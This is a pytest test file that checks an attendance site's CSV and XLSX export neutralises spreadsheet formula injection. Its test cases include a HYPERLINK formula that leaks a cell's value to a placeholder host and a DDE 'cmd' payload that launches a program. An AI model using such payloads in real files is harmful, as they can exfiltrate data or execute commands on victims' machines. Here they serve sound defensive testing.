"""attendance_site.spreadsheet: no exported cell can become a spreadsheet formula (OWASP)."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from attendance_site.spreadsheet import csv_from_dicts, csv_text, safe_cell, xlsx_bytes


@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    # numbers excepted: real numbers and text that is exactly a plain number
    ("-3", "-3"), ("+4", "+4"), ("-12.5", "-12.5"), (-3, -3), (-2.5, -2.5), (0, 0),
    # ordinary text, and formula characters later in the text
    ("Smith", "Smith"), ("O'Brien-Jones", "O'Brien-Jones"), ("a=b", "a=b"), ("", ""),
    (None, None), (True, True), (date(2026, 1, 5), date(2026, 1, 5)),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_neutralises_header_and_cells():
    text = csv_text(["=head", "n"], [["=1+1", -2], ["Ann", None]])
    assert list(csv.reader(io.StringIO(text))) == [["'=head", "n"], ["'=1+1", "-2"], ["Ann", ""]]


def test_csv_from_dicts_keeps_field_order_and_neutralises():
    text = csv_from_dicts([{"b": "@x", "a": 1, "ignored": "=y"}], ["a", "b"])
    assert text == "a,b\n1,'@x\n"


def test_xlsx_cells_are_text_not_formulas():
    data = xlsx_bytes("t", ["Name", "Value"], [["=1+1", 3], ["@A1", -1.5]])
    ws = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[2]] == ["'=1+1", 3] and [c.value for c in ws[3]] == ["'@A1", -1.5]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws[2][1].data_type == "n"
